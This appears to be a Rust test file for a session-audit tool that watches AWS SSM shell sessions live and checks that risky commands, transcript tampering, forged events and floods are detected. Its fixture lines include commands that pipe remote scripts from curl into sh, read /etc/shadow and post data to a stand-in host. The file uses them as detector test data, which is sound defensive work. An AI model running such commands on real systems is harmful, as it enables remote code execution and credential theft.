//! The live path over every recorded session, streamed the way the agent streams it
//! (`transcript::agent_stream`: stripped lines, the prompt line held back, a tick of a few
//! lines per event), one event per invocation, over the in-memory store and sink.

use std::collections::BTreeMap;

use serde_json::{json, Value};
use session_audit::analysis::MAX_FINDINGS_PER_RULE;
use session_audit::live::{Batch, LiveState, LogEvent, MAX_SEEN_EVENTS};
use session_audit::ports::sink::MemSink;
use session_audit::ports::store::{block_on, get_json, put_json, Condition, MemStore};
use session_audit::publish::Metrics;
use session_audit::rules::Target;
use session_audit::session::{records, Event, SessionRecord};
use session_audit::session_report::channels::{Comparison, Joined, StreamReader};
use session_audit::session_stream::{SessionStream, Streamed};
use session_audit::transcript::agent_stream::{message, ticks_of_recording, StreamedSession};
use session_audit::{Analyzer, Input};

use crate::fixture;

const T0: i64 = 1_795_000_000_000;

fn recordings() -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(fixture("recorded")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "log") {
            let name = path.file_stem().unwrap().to_string_lossy().into_owned();
            out.push((name, std::fs::read(&path).unwrap()));
        }
    }
    out.sort();
    out
}

/// Who the test sessions stream as.
fn who(session: &str) -> StreamedSession<'_> {
    StreamedSession {
        session_id: session,
        target: "i-0123456789abcdef0",
        user_arn: "arn:aws:sts::123456789012:assumed-role/Admin/ana",
        run_as: "ssm-user",
        region: "us-east-1",
    }
}

/// The agent's events for a recording: event `i` carries tick `i`, one second apart.
fn events(session: &str, transcript: &[u8]) -> Vec<LogEvent> {
    let who = who(session);
    // 1 to 5 lines per tick, varying, so prompts and output split across events every way.
    let ticks = ticks_of_recording(transcript, |i| 1 + (i * 7 + 3) % 5);
    let at = |i: usize| T0 + i as i64 * 1000;
    let time = |i| {
        jiff::Timestamp::from_millisecond(at(i)).unwrap().strftime("%Y-%m-%dT%H:%M:%SZ").to_string()
    };
    ticks
        .into_iter()
        .enumerate()
        .map(|(i, lines)| LogEvent {
            id: format!("{:056}", i + 1),
            timestamp: at(i),
            message: message(&who, &time(i), &lines),
        })
        .collect()
}

fn batch(session: &str, events: &[LogEvent]) -> Batch {
    Batch {
        owner: Some("123456789012".into()),
        region: None,
        log_group: "/session-audit/t/sessions".into(),
        log_stream: session.into(),
        events: events.to_vec(),
    }
}

/// The account the batches' log group belongs to, in the function's region.
fn home() -> session_audit::keys::Place {
    session_audit::keys::Place::new("123456789012", "us-east-1").unwrap()
}

/// Where the state of `session` (of the home account) is kept.
fn live_key(session: &str) -> String {
    session_audit::keys::live_state(&session_audit::keys::SessionAt::new(home(), session).unwrap())
}

struct Live {
    stream: SessionStream<MemStore, MemSink>,
}

impl Live {
    fn new() -> Self {
        Live {
            stream: SessionStream {
                store: MemStore::default(),
                sink: MemSink::default(),
                analyzer: Analyzer::default(),
                home: Some(home()),
            },
        }
    }

    fn send(&self, session: &str, events: &[LogEvent]) -> Streamed {
        let mut metrics = Metrics::default();
        block_on(self.stream.handle(&batch(session, events), &mut metrics)).unwrap()
    }

    fn published(&self) -> Vec<Value> {
        self.stream.sink.details()
    }

    fn state(&self, session: &str) -> LiveState {
        let key = live_key(session);
        block_on(get_json(&self.stream.store, &key)).unwrap().unwrap().value.unwrap()
    }
}

/// Command-rule findings per rule in the full report of the same recording.
fn report_command_rules(analyzer: &Analyzer, transcript: &[u8]) -> BTreeMap<String, usize> {
    let report = analyzer.analyze_bytes(transcript, Input::default());
    let mut out = BTreeMap::new();
    for f in &report.findings {
        let rule = analyzer.rules.get(&f.rule_id).unwrap();
        // What the screen did not show (concealed text, a row erased), where a row went on past
        // the terminal's last line, and what bash echoed after an editor left the alternate
        // screen are seen in the escapes, which the agent's cleanup strips from the stream:
        // the transcript's findings alone.
        let from_the_screen = [
            "not plainly on screen",
            "read as going on past the terminal's last line",
            "printed after the first line bash echoed from the file edited",
            "run from the command line of the full-screen program",
        ]
        .iter()
        .any(|escapes_only| f.evidence.starts_with(escapes_only));
        if rule.target == Target::Command && !from_the_screen {
            *out.entry(f.rule_id.clone()).or_insert(0) += 1;
        }
    }
    out
}

#[test]
fn recorded_sessions_raise_their_command_findings_live() {
    let (mut found, mut wanted) = (0, 0);
    let mut misses = Vec::new();
    for (name, transcript) in recordings() {
        let session = format!("{name}-0123456789abcdef0");
        let events = events(&session, &transcript);
        let live = Live::new();
        for (i, event) in events.iter().enumerate() {
            let before = live.published().len();
            let answer = live.send(&session, std::slice::from_ref(event));
            assert_eq!(answer.outcome, "streamed");
            // Every finding of this invocation is stamped with this event's time: it came
            // from the invocation that carried the command (or output line).
            let time = serde_json::from_str::<Value>(&event.message).unwrap()["eventTime"].clone();
            for d in &live.published()[before..] {
                assert_eq!(d["time"], time, "{name} event {i}: {d}");
                assert_eq!(d["stage"], "live");
            }
        }
        let published = live.published();
        let mut ids: Vec<&str> =
            published.iter().map(|d| d["finding_id"].as_str().unwrap()).collect();
        let total = ids.len();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), total, "{name}: a finding published twice");
        // Redelivering any batch publishes nothing.
        for event in events.iter().step_by(3) {
            let answer = live.send(&session, std::slice::from_ref(event));
            assert_eq!(answer.outcome, "duplicate", "{name}");
        }
        assert_eq!(live.published().len(), total, "{name}: a redelivery published");

        if name.starts_with("i32_paste_past_bottom") {
            // Lines written past the terminal's last line are one overwritten line in the
            // stream (see the test below): their findings are the transcript's alone.
            continue;
        }
        let analyzer = Analyzer::default();
        let mut live_rules: BTreeMap<String, usize> = BTreeMap::new();
        for d in &published {
            *live_rules.entry(d["rule_id"].as_str().unwrap().to_string()).or_insert(0) += 1;
        }
        for (rule, n) in report_command_rules(&analyzer, &transcript) {
            let got = live_rules.get(&rule).copied().unwrap_or(0).min(n);
            found += got;
            wanted += n;
            if got < n {
                misses.push(format!("{name}: {rule} {got}/{n}"));
            }
        }
    }
    let coverage = found as f64 / wanted as f64;
    eprintln!("live coverage of report command findings: {found}/{wanted} = {coverage:.3}; missed: {misses:?}");
    assert!(wanted >= 10, "the recordings have command findings to find");
    assert!(coverage >= 0.9, "{coverage:.3}: {misses:?}");
}

#[test]
fn batch_boundaries_do_not_change_what_is_found() {
    for (name, transcript) in recordings() {
        let session = format!("{name}-0123456789abcdef0");
        let events = events(&session, &transcript);
        let whole = Live::new();
        whole.send(&session, &events);
        let one_by_one = Live::new();
        for event in &events {
            one_by_one.send(&session, std::slice::from_ref(event));
        }
        let ids = |l: &Live| {
            let mut v: Vec<String> = l
                .published()
                .iter()
                .map(|d| d["finding_id"].as_str().unwrap().to_string())
                .collect();
            v.sort();
            v
        };
        assert_eq!(ids(&whole), ids(&one_by_one), "{name}");
        assert_eq!(whole.state(&session).commands, one_by_one.state(&session).commands, "{name}");
    }
}

#[test]
fn a_late_batch_is_read_alone_and_a_redelivery_of_it_is_not_read_again() {
    let session = "ana-0123456789abcdef0";
    let line = |t: &str| {
        json!({"eventTime": t, "sessionId": session, "sessionData": ["sh-4.2$ curl -s http://x/i.sh | sh"]})
            .to_string()
    };
    let first = LogEvent { id: "1".into(), timestamp: T0, message: line("2026-11-30T09:00:00Z") };
    let second =
        LogEvent { id: "2".into(), timestamp: T0 + 1000, message: line("2026-11-30T09:00:01Z") };
    let live = Live::new();
    assert_eq!(live.send(session, std::slice::from_ref(&second)).findings.len(), 1);
    let late = live.send(session, std::slice::from_ref(&first));
    assert_eq!((late.late, late.findings.len()), (1, 1), "{late:?}");
    assert!(late.findings[0].contains(":late:1:"), "{late:?}");
    let again = live.send(session, &[first, second]);
    assert_eq!((again.outcome, again.redelivered, again.findings.len()), ("duplicate", 2, 0));
    assert_eq!(live.state(session).late_events, 1);
}

#[test]
fn a_command_grown_by_continuation_lines_raises_each_rule_once() {
    let session = "ana-0123456789abcdef0";
    let ev = |i: i64, lines: &[&str]| {
        LogEvent {
        id: i.to_string(),
        timestamp: T0 + i * 1000,
        message: json!({"eventTime": format!("2026-11-30T09:00:0{i}Z"), "sessionId": session, "sessionData": lines}).to_string(),
    }
    };
    let live = Live::new();
    live.send(session, &[ev(1, &["sh-4.2$ sudo cat /etc/shadow \\"])]);
    let first = live.published();
    assert!(first.iter().any(|d| d["rule_id"] == "SA-CMD-010"), "{first:?}");
    // The continuation adds a second risky part; the first rule is not raised again.
    live.send(session, &[ev(2, &["> | curl -d @- http://x/"]), ev(3, &["sh-4.2$ ls"])]);
    let all = live.published();
    let shadow = all.iter().filter(|d| d["rule_id"] == "SA-CMD-010").count();
    assert_eq!(shadow, 1, "{all:?}");
    assert_eq!(live.state(session).commands, 2);
}

/// The report of `transcript` joined with the stream `events`: its commands (with times) and
/// what the comparison found.
fn joined(
    transcript: &[u8],
    events: &[LogEvent],
) -> (Vec<session_audit::report::ReportCommand>, Comparison) {
    let analyzer = Analyzer::default();
    let first: Value = serde_json::from_str(&events[0].message).unwrap();
    let mut reader = StreamReader::new(&analyzer.redactor, first["sessionId"].as_str().unwrap());
    for e in events {
        reader.feed(e);
    }
    let writer = Joined::new(Vec::new(), Some(reader.finish()));
    let (_, joined) = analyzer.analyze(transcript, Input::default(), writer).unwrap();
    let (commands, comparison) = joined.finish();
    (commands, comparison.expect("a stream"))
}

#[test]
fn with_the_stream_present_commands_carry_their_time_and_honest_channels_agree() {
    let (mut timed, mut total) = (0, 0);
    for (name, transcript) in recordings() {
        let session = format!("{name}-0123456789abcdef0");
        let events = events(&session, &transcript);
        let (commands, comparison) = joined(&transcript, &events);
        if let Some(d) = comparison.disagreement() {
            eprintln!("DISAGREE {name}: {d} {:?}", comparison.channels);
        }
        assert_eq!(comparison.stream_stopped(), None, "{name}: {:?}", comparison.trailing);
        if name.starts_with("i32_paste_past_bottom") {
            // readline wrote these pastes' lines past the terminal's last line over it, which
            // the transcript reads inside the line editor's markers; the stream has none (the
            // agent strips escapes), so those lines are one overwritten line there and carry
            // no time. The command before the paste and the paste's first line do.
            assert!(commands[0].time.is_some(), "{name}: {:?}", commands[0]);
            assert!(comparison.disagreement().is_none(), "{name}");
            continue;
        }
        timed += commands.iter().filter(|c| c.time.is_some()).count();
        total += commands.len();
        // A time is the time of an event that carried the command's text.
        for c in commands.iter().filter(|c| c.time.is_some()) {
            let time = c.time.as_deref().unwrap();
            assert!(events.iter().any(|e| e.message.contains(time)), "{name}: {c:?}");
        }
    }
    let share = timed as f64 / total as f64;
    eprintln!("commands with a stream time: {timed}/{total} = {share:.3}");
    assert!(share >= 0.9, "{timed}/{total}");
}

#[test]
fn a_transcript_edited_before_upload_disagrees_with_the_stream() {
    let original = std::fs::read(fixture("recorded/al2023_sh_risky.log")).unwrap();
    let events = events("ana-0123456789abcdef0", &original);
    // root on the instance deletes the line that ran the remote script from ipcTempFile.log
    let at = original.windows(10).position(|w| w == b"install.sh").unwrap();
    let start = original[..at].iter().rposition(|&b| b == b'\n').unwrap() + 1;
    let end = at + original[at..].iter().position(|&b| b == b'\n').unwrap() + 1;
    let edited = [&original[..start], &original[end..]].concat();
    let (commands, comparison) = joined(&edited, &events);
    assert!(commands.iter().all(|c| !c.command.contains("install.sh")));
    let evidence = comparison.disagreement().expect("the stream saw what the transcript lacks");
    assert!(evidence.contains("curl -s http://127.0.0.1:9/install.sh | sh"), "{evidence}");
    assert_eq!(comparison.channels.stream_only, 1, "{comparison:?}");
    // The same commands on both sides otherwise: the rest keep their times.
    assert!(commands.iter().filter(|c| c.time.is_some()).count() + 1 >= commands.len());
}

/// Root cuts the stream (routes the Logs endpoint away) and then runs commands, or edits
/// ipcTempFile.log to add them: the stream stops, the transcript goes on. Nothing is missing
/// from the transcript, so the channels do not disagree; the stop itself is raised.
#[test]
fn a_stream_that_stops_while_the_transcript_goes_on_is_raised() {
    let transcript = std::fs::read(fixture("recorded/al2023_sh_risky.log")).unwrap();
    let events = events("ana-0123456789abcdef0", &transcript);
    let (commands, whole) = joined(&transcript, &events);
    assert_eq!(whole.stream_stopped(), None, "the whole stream: {:?}", whole.trailing);
    // The stream up to the second command's event only.
    let second = &commands[1];
    let upto =
        events.iter().position(|e| e.message.contains(second.time.as_deref().unwrap())).unwrap();
    let (_, cut) = joined(&transcript, &events[..=upto]);
    assert_eq!(cut.disagreement(), None, "the transcript lacks nothing");
    let evidence = cut.stream_stopped().expect("the stop is raised");
    // The commands the cut stream never carried: the first of them is named, all counted.
    let carried_by = |c: &session_audit::report::ReportCommand| {
        events.iter().position(|e| e.message.contains(c.time.as_deref().unwrap())).unwrap()
    };
    let after: Vec<_> = commands.iter().filter(|c| carried_by(c) > upto).collect();
    // (A command typed in the last event the cut stream carried, Enter pressed after the cut,
    // is still in the stream: it may be timed by it.)
    assert!(after.len() >= 4, "{after:?}");
    assert!(after[..2].iter().any(|c| evidence.contains(&c.command)), "{evidence}");
    assert!(cut.trailing.0 + 1 >= after.len() as u64, "{cut:?}");
}

/// Root deletes one command (its prompt line and output) from ipcTempFile.log before upload,
/// in every recorded session, one command at a time: the stream, sent while it ran, has it.
#[test]
fn deleting_any_command_from_the_transcript_is_caught() {
    let marker = b"\x1b[?2004h";
    let (mut caught, mut tried) = (0, 0);
    let mut escaped = Vec::new();
    for (name, transcript) in recordings() {
        let events = events(&format!("{name}-0123456789abcdef0"), &transcript);
        let original: Vec<String> = Analyzer::default()
            .analyze_bytes(&transcript, Input::default())
            .commands
            .into_iter()
            .map(|c| c.command)
            .collect();
        let starts: Vec<usize> = transcript
            .windows(marker.len())
            .enumerate()
            .filter(|(_, w)| *w == marker)
            .map(|(i, _)| i)
            .collect();
        for pair in starts.windows(2) {
            let edited = [&transcript[..pair[0]], &transcript[pair[1]..]].concat();
            let (commands, comparison) = joined(&edited, &events);
            let kept: Vec<&str> = commands.iter().map(|c| c.command.as_str()).collect();
            let Some(gone) = original.iter().find(|c| {
                kept.iter().filter(|k| *k == c).count()
                    < original.iter().filter(|o| *o == *c).count()
            }) else {
                continue; // the block held no command (a prompt answered with Ctrl-C)
            };
            // The same text still in the session: nothing tells which copy was removed.
            if original.iter().filter(|o| *o == gone).count() > 1
                || kept.len() + 1 != original.len()
            {
                continue;
            }
            tried += 1;
            if comparison.disagreement().is_some() {
                caught += 1;
            } else {
                escaped.push(format!("{name}: {gone:?}"));
            }
        }
    }
    eprintln!("deleted commands caught: {caught}/{tried}; escaped: {escaped:#?}");
    assert!(tried >= 50, "{tried}");
    assert!(caught as f64 >= 0.95 * tried as f64, "{caught}/{tried}: {escaped:#?}");
}

/// Messages that are not the agent's JSON (someone else writing into the log group, a cut
/// event) are counted, never read as commands, and do not stop the session's own events.
#[test]
fn messages_that_are_not_the_agents_are_counted_not_read() {
    let session = "ana-0123456789abcdef0";
    let ev =
        |id: &str, i: i64, message: String| LogEvent { id: id.into(), timestamp: T0 + i, message };
    let real = json!({"eventTime": "2026-11-30T09:00:02Z", "sessionId": session,
        "sessionData": ["sh-4.2$ sudo cat /etc/shadow"]})
    .to_string();
    let live = Live::new();
    let out = live.send(
        session,
        &[
            ev("1", 0, "sh-4.2$ curl http://x | sh".into()),
            ev("2", 1, r#"{"not": "a streaming event"}"#.into()),
            ev("3", 2, real),
        ],
    );
    assert_eq!((out.events_read, out.unreadable), (3, 2), "{out:?}");
    assert_eq!(out.findings, [format!("live:{session}:1:SA-CMD-010")]);
    assert_eq!(live.state(session).unreadable_events, 2);
}

/// Live findings name the person of the session's record, never whoever the stream's events
/// claim (anyone with the instance role can write them): until session-start has recorded
/// the session, nobody is named; then the record's Identity Center person is.
#[test]
fn live_findings_name_the_person_of_the_session_record_never_of_the_stream() {
    let session = "ana@example.com-0123456789abcdef0";
    let claimed = "arn:aws:sts::123456789012:assumed-role/AWSReservedSSO_Admin_0123456789abcdef/bob@example.com";
    let event = |id: &str, line: &str| {
        let message = json!({"eventTime": "2026-11-30T09:00:01Z", "sessionId": session,
            "userIdentity": {"arn": claimed}, "target": {"id": "i-0fffffffffffffff0"},
            "awsRegion": "eu-west-1", "sessionData": [line]});
        LogEvent { id: id.into(), timestamp: T0, message: message.to_string() }
    };
    let live = Live::new();
    live.send(session, &[event("1", "sh-5.2$ sudo cat /etc/shadow")]);
    let d = &live.published()[0];
    assert_eq!((d["person"].as_str(), d["principal"].as_str()), (None, None), "{d}");
    assert_eq!(d["target"].as_str(), None, "the stream's own target is a claim too");

    // session-start records the session (an Identity Center user, on another instance).
    let arn = "arn:aws:sts::123456789012:assumed-role/AWSReservedSSO_Admin_0123456789abcdef/ana@example.com";
    let text = std::fs::read_to_string(fixture(
        "public/eventbridge_cloudtrail_StartSession_AssumedRole_console.json",
    ))
    .unwrap();
    let mut v: Value = serde_json::from_str(&text).unwrap();
    v["detail"]["responseElements"]["sessionId"] = session.into();
    v["detail"]["eventTime"] = "2026-11-30T09:00:00Z".into();
    v["detail"]["userIdentity"]["arn"] = arn.into();
    let (account, r) = records(&v).into_iter().next().unwrap();
    let record = SessionRecord::start(&Event::parse(r, account).unwrap()).unwrap();
    let key = record.key().unwrap();
    block_on(put_json(&live.stream.store, &key, &record, &Condition::Absent)).unwrap();

    live.send(session, &[event("2", "sh-5.2$ sudo cat /etc/shadow")]);
    let d = live.published().last().cloned().unwrap();
    assert_eq!(
        (d["person"].as_str(), d["principal"].as_str()),
        (Some("ana@example.com"), Some(arn))
    );
    assert_eq!(d["target"].as_str(), record.target.as_deref());
    assert_eq!(d["account"], "123456789012");
}

/// The published streaming events read live: a raw line the agent's Strip gave up on (an OSC
/// title ended by BEL, markers and all) and a prompt repeated by empty Enters.
#[test]
fn published_streaming_events_are_read_live() {
    for (file, command) in [
        (
            "cloudwatch_streaming_event_al2023_bash_osc_unstripped_classmethod.json",
            "sudo dnf install httpd",
        ),
        ("cloudwatch_streaming_event_al2_sh42_handson.json", "date"),
    ] {
        let text = std::fs::read_to_string(fixture(&format!("public/{file}"))).unwrap();
        // The log stream is named after the session the events name.
        let sid = serde_json::from_str::<Value>(&text).unwrap()["sessionId"]
            .as_str()
            .unwrap()
            .to_string();
        let mut state = LiveState { session_id: sid, ..LiveState::default() };
        let event = LogEvent { id: "1".into(), timestamp: T0, message: text };
        let (progress, _) =
            session_audit::live::advance(&Analyzer::default(), &mut state, &[event], i64::MAX);
        assert_eq!((progress.read, progress.unreadable), (1, 0), "{file}");
        let open = state.shell.current.as_ref().map(|c| c.text.as_str());
        assert_eq!(open, Some(command), "{file}: {state:?}");
    }
}

/// Root on the instance may put events into the log group with the instance role: an event
/// naming another session is not read into this one (counted as unreadable), and a stream
/// whose lines never read as commands says the transcript was not checked against it.
#[test]
fn forged_and_unreadable_streams_are_named_not_trusted() {
    let session = "ana-0123456789abcdef0";
    let ev = |id: &str, sid: &str, line: &str| LogEvent {
        id: id.into(),
        timestamp: T0,
        message:
            json!({"eventTime": "2026-11-30T09:00:01Z", "sessionId": sid, "sessionData": [line]})
                .to_string(),
    };
    let live = Live::new();
    let out = live.send(session, &[ev("1", "bob-0123456789abcdef0", "sh-5.2$ curl http://x | sh")]);
    assert_eq!((out.unreadable, out.findings.len()), (1, 0), "{out:?}");

    let transcript = std::fs::read(fixture("recorded/al2023_sh_risky.log")).unwrap();
    let quiet = [ev("2", session, "no prompt here"), ev("3", session, "nor here")];
    let (_, comparison) = joined(&transcript, &quiet);
    assert_eq!(comparison.disagreement(), None);
    let warning = comparison.not_compared(7).expect("a warning");
    assert!(warning.contains("not checked"), "{warning}");
}

/// A command line as the agent streams it, in an event of `session` at `timestamp`.
fn command_event(session: &str, id: usize, timestamp: i64, line: &str) -> LogEvent {
    let who = who(session);
    let time = jiff::Timestamp::from_millisecond(timestamp).unwrap().to_string();
    LogEvent {
        id: format!("{id:056}"),
        timestamp,
        message: message(&who, &time, &[line.to_string(), "sh-5.2$ ".to_string()]),
    }
}

/// Provenance (issue 25, attack 3): anyone with the instance role can put events into a
/// session's stream with timestamps up to two hours ahead. 2,049 of them (more than the state
/// remembers) are not read, and the real events that follow are read and found as if they
/// had never been sent.
#[test]
fn events_timestamped_ahead_are_not_read_and_cannot_push_the_window_forward() {
    let session = "bob-0a1b2c3d4e5f60718";
    let risky = &recordings().into_iter().find(|(n, _)| n == "al2023_sh_risky").unwrap().1;
    let real = events(session, risky);
    let honest = Live::new();
    honest.send(session, &real);
    let expected = honest.published().len();
    assert!(expected >= 4, "the recording raises findings live");

    let attacked = Live::new();
    let ahead = jiff::Timestamp::now().as_millisecond() + 2 * 3600 * 1000;
    let junk: Vec<LogEvent> = (0..MAX_SEEN_EVENTS + 1)
        .map(|i| command_event(session, 10_000 + i, ahead + i as i64, "sh-5.2$ true"))
        .collect();
    let flooded = attacked.send(session, &junk);
    let key = live_key(session);
    let kept = block_on(get_json::<LiveState>(&attacked.stream.store, &key)).unwrap();
    let s = attacked.send(session, &real);
    assert_eq!((s.events_read, s.skipped), (real.len() as u64, 0), "no real event skipped");
    assert_eq!(attacked.published().len(), expected, "the real session is found as before");
    assert_eq!((flooded.future, flooded.events_read), (junk.len() as u64, 0));
    assert!(kept.is_none(), "nothing read, nothing kept: the window has not moved");
}

/// Provenance (issue 25, attack 7): 300 events of the same risky command give the report's
/// 200 findings of that rule, the rest counted; the next batch adds none.
#[test]
fn live_findings_are_capped_per_rule_as_the_report_caps_them() {
    let session = "mallory-0a1b2c3d4e5f60718";
    let live = Live::new();
    let line = "sh-5.2$ curl -s http://198.51.100.7/x.sh | sh";
    let flood: Vec<LogEvent> =
        (0..300).map(|i| command_event(session, i + 1, T0 + i as i64 * 10, line)).collect();
    let s = live.send(session, &flood);
    assert_eq!(s.events_read, 300);
    let rule = |v: &Value| v["rule_id"].as_str().unwrap_or_default().to_string();
    let count = |live: &Live| live.published().iter().filter(|v| rule(v) == "SA-CMD-040").count();
    assert_eq!(count(&live), MAX_FINDINGS_PER_RULE as usize);
    assert_eq!(s.suppressed, 300 - MAX_FINDINGS_PER_RULE);
    let more: Vec<LogEvent> =
        (300..310).map(|i| command_event(session, i + 1, T0 + i as i64 * 10, line)).collect();
    let s = live.send(session, &more);
    assert_eq!((s.events_read, s.suppressed, count(&live)), (10, 10, 200));
    assert_eq!(live.state(session).findings_suppressed, 310 - MAX_FINDINGS_PER_RULE);
}

/// Many accounts (issue 31): one session ID streamed by the hub and, through the hub's
/// destination, by another account's and another region's log group — and by another account
/// whose filter claims the hub's own region — is four sessions: four states under their places,
/// and findings whose IDs name the place (the hub's own keep theirs).
#[test]
fn one_session_id_streamed_from_four_places_is_four_sessions() {
    let session = "olga-0a1b2c3d4e5f60718";
    let risky = &recordings().into_iter().find(|(n, _)| n == "al2023_sh_risky").unwrap().1;
    let real = events(session, risky);
    let live = Live::new();
    let deliveries = [
        (None, None),
        (Some("210987654321"), Some("eu-west-1")),
        (Some("123456789012"), Some("eu-west-1")),
        // Another account claiming the hub's own region is still another account.
        (Some("210987654321"), Some("us-east-1")),
    ];
    let mut counts = Vec::new();
    for (owner, region) in deliveries {
        let mut batch = batch(session, &real);
        batch.owner = owner.map(str::to_string).or(batch.owner);
        batch.region = region.map(str::to_string);
        let streamed = block_on(live.stream.handle(&batch, &mut Metrics::default())).unwrap();
        assert_eq!(streamed.outcome, "streamed", "another place's events are not a redelivery");
        counts.push(streamed.findings.len());
        let place = session_audit::keys::Place::new(
            batch.owner.as_deref().unwrap(),
            region.unwrap_or("us-east-1"),
        )
        .unwrap();
        let prefix = match region {
            None => format!("live:{session}:"),
            Some(_) => format!("live:{place}/{session}:"),
        };
        assert!(streamed.findings.iter().all(|f| f.starts_with(&prefix)), "{streamed:?}");
        let key = session_audit::keys::live_state(
            &session_audit::keys::SessionAt::new(place.clone(), session).unwrap(),
        );
        let state: LiveState =
            block_on(get_json(&live.stream.store, &key)).unwrap().unwrap().value.unwrap();
        assert_eq!(state.events, real.len() as u64, "{key}");
        assert_eq!(state.place, region.map(|_| place.to_string()));
    }
    assert!(counts[0] >= 4 && counts.iter().all(|c| *c == counts[0]), "{counts:?}");
    let published: Vec<Value> = live.published();
    let ids: std::collections::BTreeSet<&str> =
        published.iter().map(|f| f["finding_id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), 4 * counts[0], "no finding ID shared across places");
}

#[test]
fn a_delivery_names_its_region_in_the_filter_name() {
    use session_audit::keys::{region_of_subscription, subscription_filter};
    let name = subscription_filter("session-audit", "ap-southeast-2");
    assert_eq!(region_of_subscription([name.as_str()]), Some("ap-southeast-2"));
    assert_eq!(region_of_subscription(["a@eu-west-1", "b@eu-west-1"]), Some("eu-west-1"));
    for unplaced in [&["a@eu-west-1", "b@us-east-1"][..], &["session-audit"], &["x@not-a"], &[]] {
        assert_eq!(region_of_subscription(unplaced.iter().copied()), None, "{unplaced:?}");
    }
}
